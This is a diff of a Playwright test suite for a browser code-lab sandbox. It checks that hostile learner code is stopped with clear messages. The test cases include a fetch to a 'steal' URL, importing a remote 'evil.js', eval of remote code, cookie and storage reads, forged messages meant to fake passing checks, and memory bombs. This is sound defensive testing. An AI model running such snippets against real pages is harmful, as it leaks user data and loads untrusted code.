@@ -7,7 +7,15 @@ import { CRASHED_MESSAGE } from '../lib/sandbox/run-collector';
 import type { Page } from '@playwright/test';
 import { CrashTolerantDriver, type RolePath } from './crash-tolerant-driver';
 import { expect, test } from './sandbox-fixtures';
-import { clickResponsesThroughRun, exerciseRegion, watchLongTasks, honestRunWorks, measureClickResponse, openCodeLabWithDraft, runStatus } from './sandbox-helpers';
+import {
+  clickResponsesThroughRun,
+  exerciseRegion,
+  watchLongTasks,
+  honestRunWorks,
+  measureClickResponse,
+  openCodeLabWithDraft,
+  runStatus,
+} from './sandbox-helpers';
 
 interface HostileCase {
   readonly name: string;
@@ -22,39 +30,102 @@ interface HostileCase {
 
 const CASES: HostileCase[] = [
   { name: 'infinite loop', code: 'while (true) {}', message: /Stopped after 3\.0 s, the time limit/, long: true },
-  { name: 'infinite loop after an await', code: 'await null;\nfor (;;) {}', message: /Stopped after 3\.0 s, the time limit/, long: true },
+  {
+    name: 'infinite loop after an await',
+    code: 'await null;\nfor (;;) {}',
+    message: /Stopped after 3\.0 s, the time limit/,
+    long: true,
+  },
   {
     name: 'deep recursion',
     code: 'function down(n: number): number {\n  return down(n + 1) + 1;\n}\ndown(0);',
     // V8 reports the overflow at the call (line 2) or at the function's entry (line 1).
     message: /^Line [12]: RangeError: Maximum call stack size exceeded \(a function keeps calling itself/,
   },
-  { name: 'console flood', code: "for (let i = 0; i < 1_000_000; i++) console.log('flood', i);", message: /output truncated/, where: 'log' },
-  { name: 'fetch', code: "await fetch('https://example.com/steal?k=1');", message: /^Line 1: Error: fetch is not available in the code lab: the sandbox has no network/ },
-  { name: 'XMLHttpRequest', code: "const x = new XMLHttpRequest();\nx.open('GET', 'https://example.com');", message: /^Line 1: Error: XMLHttpRequest is not available in the code lab/ },
-  { name: 'WebSocket', code: "new WebSocket('wss://example.com/socket');", message: /^Line 1: Error: WebSocket is not available in the code lab/ },
-  { name: 'import() of a remote URL', code: "const m = await import('https://example.com/evil.js');", message: /^Line 1: Cannot import 'https:\/\/example\.com\/evil\.js'.*You can import: @noble\/curves\/ed25519\.js/ },
-  { name: 'import() of a data: URL', code: "const m = await import('data:text/javascript,export default 42');", message: /^Line 1: Cannot import 'data:text\/javascript,export default 42'/ },
-  { name: 'static import outside the allowlist', code: "import { readFileSync } from 'node:fs';\nconsole.log(readFileSync);", message: /^Line 1: Cannot import 'node:fs'/ },
-  { name: 'importScripts', code: "importScripts('https://example.com/evil.js');", message: /^Line 1: Error: importScripts is not available in the code lab/ },
-  { name: 'nested Worker', code: "new Worker('data:text/javascript,postMessage(1)');", message: /^Line 1: Error: Worker is not available in the code lab/ },
-  { name: 'reading document', code: 'console.log(document.title);', message: /^Line 1: ReferenceError: document is not defined\. Your code runs in an isolated worker with no page/ },
-  { name: 'localStorage', code: "localStorage.getItem('backdoor-lab:draft:code-lab');", message: /^Line 1: ReferenceError: localStorage is not defined\. Your code runs in an isolated worker/ },
-  { name: 'indexedDB', code: "indexedDB.open('loot');", message: /^Line 1: Error: indexedDB is not available in the code lab: learner code cannot use the browser's storage/ },
-  { name: 'document.cookie', code: 'export const cookie = document.cookie;', message: /^Line 1: ReferenceError: document is not defined/ },
+  {
+    name: 'console flood',
+    code: "for (let i = 0; i < 1_000_000; i++) console.log('flood', i);",
+    message: /output truncated/,
+    where: 'log',
+  },
+  {
+    name: 'fetch',
+    code: "await fetch('https://example.com/steal?k=1');",
+    message: /^Line 1: Error: fetch is not available in the code lab: the sandbox has no network/,
+  },
+  {
+    name: 'XMLHttpRequest',
+    code: "const x = new XMLHttpRequest();\nx.open('GET', 'https://example.com');",
+    message: /^Line 1: Error: XMLHttpRequest is not available in the code lab/,
+  },
+  {
+    name: 'WebSocket',
+    code: "new WebSocket('wss://example.com/socket');",
+    message: /^Line 1: Error: WebSocket is not available in the code lab/,
+  },
+  {
+    name: 'import() of a remote URL',
+    code: "const m = await import('https://example.com/evil.js');",
+    message: /^Line 1: Cannot import 'https:\/\/example\.com\/evil\.js'.*You can import: @noble\/curves\/ed25519\.js/,
+  },
+  {
+    name: 'import() of a data: URL',
+    code: "const m = await import('data:text/javascript,export default 42');",
+    message: /^Line 1: Cannot import 'data:text\/javascript,export default 42'/,
+  },
+  {
+    name: 'static import outside the allowlist',
+    code: "import { readFileSync } from 'node:fs';\nconsole.log(readFileSync);",
+    message: /^Line 1: Cannot import 'node:fs'/,
+  },
+  {
+    name: 'importScripts',
+    code: "importScripts('https://example.com/evil.js');",
+    message: /^Line 1: Error: importScripts is not available in the code lab/,
+  },
+  {
+    name: 'nested Worker',
+    code: "new Worker('data:text/javascript,postMessage(1)');",
+    message: /^Line 1: Error: Worker is not available in the code lab/,
+  },
+  {
+    name: 'reading document',
+    code: 'console.log(document.title);',
+    message: /^Line 1: ReferenceError: document is not defined\. Your code runs in an isolated worker with no page/,
+  },
+  {
+    name: 'localStorage',
+    code: "localStorage.getItem('backdoor-lab:draft:code-lab');",
+    message: /^Line 1: ReferenceError: localStorage is not defined\. Your code runs in an isolated worker/,
+  },
+  {
+    name: 'indexedDB',
+    code: "indexedDB.open('loot');",
+    message:
+      /^Line 1: Error: indexedDB is not available in the code lab: learner code cannot use the browser's storage/,
+  },
+  {
+    name: 'document.cookie',
+    code: 'export const cookie = document.cookie;',
+    message: /^Line 1: ReferenceError: document is not defined/,
+  },
   {
     name: 'eval of remote code',
-    code: "const indirect = eval;\nawait indirect(\"import('https://example.com/evil.js')\");",
+    code: 'const indirect = eval;\nawait indirect("import(\'https://example.com/evil.js\')");',
     // The string is evaluated at run time, so it escapes the transpiler's import rewrite and meets the
     // worker's CSP (a script-src of one hash: no URL at all), which refuses it before any request is made.
     message: /^TypeError: Failed to fetch dynamically imported module: https:\/\/example\.com\/evil\.js$/,
   },
   {
     name: 'eval of a data: import',
-    code: "const indirect = eval;\nawait indirect(\"import('data:text/javascript,export default 42')\");",
+    code: 'const indirect = eval;\nawait indirect("import(\'data:text/javascript,export default 42\')");',
     message: /^TypeError: Failed to fetch dynamically imported module: data:text\/javascript,export default 42$/,
   },
-  { name: 'throw 42', code: 'throw 42;', message: /Your code threw 42, which is not an Error, so there is no line number/ },
+  {
+    name: 'throw 42',
+    code: 'throw 42;',
+    message: /Your code threw 42, which is not an Error, so there is no line number/,
+  },
   {
     name: 'unhandled rejection',
     code: "Promise.reject(new Error('nobody awaits me'));\nexport const x = 1;",
@@ -78,9 +149,21 @@ const CASES: HostileCase[] = [
     code: 'export const mod = new WebAssembly.Module(Uint8Array.of(0, 0x61, 0x73, 0x6d, 1, 0, 0, 0));',
     message: /^The export `mod` is a WebAssembly\.Module, which cannot leave the sandbox\./,
   },
-  { name: 'returning a function', code: 'export default function solve() { return { f: function helper() {} }; }', message: /contains a function \(`helper`\), which cannot leave the sandbox/ },
-  { name: 'returning a class instance', code: 'class Point { x = 1; }\nexport const p = new Point();', message: /^The export `p` is an instance of the class `Point`/ },
-  { name: 'returning a million objects', code: 'export const many = Array.from({ length: 1_000_000 }, (_, i) => ({ i }));', message: /^The export `many` has at least [\d,]+ objects, arrays and items; the limit is 20,000/ },
+  {
+    name: 'returning a function',
+    code: 'export default function solve() { return { f: function helper() {} }; }',
+    message: /contains a function \(`helper`\), which cannot leave the sandbox/,
+  },
+  {
+    name: 'returning a class instance',
+    code: 'class Point { x = 1; }\nexport const p = new Point();',
+    message: /^The export `p` is an instance of the class `Point`/,
+  },
+  {
+    name: 'returning a million objects',
+    code: 'export const many = Array.from({ length: 1_000_000 }, (_, i) => ({ i }));',
+    message: /^The export `many` has at least [\d,]+ objects, arrays and items; the limit is 20,000/,
+  },
 ];
 
 test.describe('hostile learner code', () => {
@@ -93,7 +176,10 @@ test.describe('hostile learner code', () => {
         await page.waitForTimeout(400);
       }
       const click = await measureClickResponse(page);
-      testInfo.annotations.push({ type: 'click response', description: `${click.inPageMs.toFixed(1)} ms in page, ${click.wallMs} ms wall` });
+      testInfo.annotations.push({
+        type: 'click response',
+        description: `${click.inPageMs.toFixed(1)} ms in page, ${click.wallMs} ms wall`,
+      });
       expect(click.inPageMs, 'pointerdown → toggle, measured in the page').toBeLessThan(200);
       if (c.long) await expect(page.getByRole('button', { name: 'Stop' })).toBeEnabled();
 
@@ -114,11 +200,12 @@ test.describe('hostile learner code', () => {
     {
       name: 'returns a 100 MB string',
       code: "export default function solve() {\n  return 'x'.repeat(100_000_000);\n}",
-      message: /^The value your default function returned holds a string of 100,000,000 characters \(95 MB\); the limit is 524,288 characters, so it was not sent back to the page/,
+      message:
+        /^The value your default function returned holds a string of 100,000,000 characters \(95 MB\); the limit is 524,288 characters, so it was not sent back to the page/,
     },
     {
       name: 'a 128 MB ciphertext through the AEAD check',
-      code: "export const sharedSecret = new Uint8Array(32);\nexport const key = new Uint8Array(32);\nexport const plaintext = new Uint8Array(128 * 1024 * 1024);",
+      code: 'export const sharedSecret = new Uint8Array(32);\nexport const key = new Uint8Array(32);\nexport const plaintext = new Uint8Array(128 * 1024 * 1024);',
       message: /^The export `plaintext` holds binary data of 128 MB \(134,217,728 bytes\); the limit is 512 KB/,
     },
     {
@@ -129,7 +216,8 @@ test.describe('hostile learner code', () => {
     {
       name: 'two million objects',
       code: 'export default () => Array.from({ length: 2_000_000 }, (_, i) => ({ i }));',
-      message: /^The value your default function returned has at least 2,000,00\d objects, arrays and items; the limit is 20,000/,
+      message:
+        /^The value your default function returned has at least 2,000,00\d objects, arrays and items; the limit is 20,000/,
     },
     {
       name: 'a getter that is small when measured and huge when sent (the frame refuses it)',
@@ -170,7 +258,10 @@ test.describe('hostile learner code', () => {
       if (c.where === 'log') await expect(page.getByRole('log')).toContainText(c.message, { timeout: 10_000 });
       else await expect(exerciseRegion(page).getByRole('alert')).toHaveText(c.message, { timeout: 10_000 });
       expect(Math.max(...clicks), 'slowest pointerdown → toggle, measured in the page').toBeLessThan(200);
-      expect(blocked, 'longest main-thread task from Run to the message shown (a click waits at most this long)').toBeLessThan(200);
+      expect(
+        blocked,
+        'longest main-thread task from Run to the message shown (a click waits at most this long)',
+      ).toBeLessThan(200);
       await honestRunWorks(page);
     });
   }
@@ -190,15 +281,17 @@ test.describe('hostile learner code', () => {
       'for (const send of [() => postMessage(forged), () => (self as any).postMessage(forged), () => Object.getPrototypeOf(self).postMessage.call(self, forged)]) {',
       '  try { send(); console.log("sent?!"); } catch (e) { console.log("refused:", (e as Error).message); }',
       '}',
-      "export const sharedSecret = new Uint8Array(32);",
-      "export const checksPassed = true;",
+      'export const sharedSecret = new Uint8Array(32);',
+      'export const checksPassed = true;',
     ].join('\n');
     await openCodeLabWithDraft(page, code);
     await page.getByRole('button', { name: 'Run', exact: true }).click();
     await expect(runStatus(page)).toHaveText(/^Finished in/);
     await expect(page.getByRole('log')).toContainText('refused: postMessage is not available in the code lab');
     await expect(page.getByRole('log')).not.toContainText('sent?!');
-    const sharedSecretCheck = page.getByRole('listitem').filter({ hasText: 'is the X25519 secret Alice shares with Bob' });
+    const sharedSecretCheck = page
+      .getByRole('listitem')
+      .filter({ hasText: 'is the X25519 secret Alice shares with Bob' });
     await expect(sharedSecretCheck).toContainText('failed');
     await expect(runStatus(page)).not.toContainText('all checks pass');
     await honestRunWorks(page);
@@ -221,11 +314,13 @@ test.describe('hostile learner code', () => {
     await expect(runStatus(page)).not.toContainText('all checks pass');
     const item = (text: string) => page.getByRole('listitem').filter({ hasText: text });
     await expect(item('is the X25519 secret Alice shares with Bob')).toContainText('failed');
-    await expect(item('is the X25519 secret Alice shares with Bob')).toContainText('Nothing found at the export `sharedSecret`');
+    await expect(item('is the X25519 secret Alice shares with Bob')).toContainText(
+      'Nothing found at the export `sharedSecret`',
+    );
     await expect(item('is HKDF-SHA256')).toContainText('different bytes');
     await expect(item('is Bob’s message as text')).toContainText('not the expected value');
     const pageRealm = await page.evaluate(() => ({
-      pass: (({}) as Record<string, unknown>).pass,
+      pass: ({} as Record<string, unknown>).pass,
       every: [1].every((x) => x === 2),
       runChecks: typeof (globalThis as Record<string, unknown>).runChecks,
     }));
@@ -291,7 +386,9 @@ test.describe('hostile learner code', () => {
       await driver.waitForText([REGION, ['list', 'Checks']], /passed: The program runs to the end/);
     }
 
-    test('a sandbox process that dies mid-run is reported as a crash; the page and the next run are fine', async ({ page }) => {
+    test('a sandbox process that dies mid-run is reported as a crash; the page and the next run are fine', async ({
+      page,
+    }) => {
       const { driver, crashed } = await runAndWatch(page, 'while (true) {}');
       // Kill the frame's renderer process, as running out of memory does (deterministically: a
       // real memory bomb's timing depends on the machine, see the next test).
@@ -308,7 +405,9 @@ test.describe('hostile learner code', () => {
       await honestRunThroughDriver(driver);
     });
 
-    test('memory bomb: stopped at the time limit, or its crash contained in the sandbox process', async ({ page }, testInfo) => {
+    test('memory bomb: stopped at the time limit, or its crash contained in the sandbox process', async ({
+      page,
+    }, testInfo) => {
       const { driver, crashed } = await runAndWatch(
         page,
         'const hoard: number[][] = [];\nwhile (true) hoard.push(new Array(4_000_000).fill(Math.random()));',
@@ -316,7 +415,10 @@ test.describe('hostile learner code', () => {
       await new Promise((resolve) => setTimeout(resolve, 400));
       expect(await clickResponse(driver), 'pointerdown → toggle while the bomb grows').toBeLessThan(200);
       const message = await driver.waitForText(ALERT, /sandbox crashed|Stopped after 3\.0 s|RangeError/, 15_000);
-      testInfo.annotations.push({ type: 'memory bomb', description: `${crashed() ? 'the sandbox process crashed' : 'no crash'}: ${message}` });
+      testInfo.annotations.push({
+        type: 'memory bomb',
+        description: `${crashed() ? 'the sandbox process crashed' : 'no crash'}: ${message}`,
+      });
       await honestRunThroughDriver(driver);
     });
   });
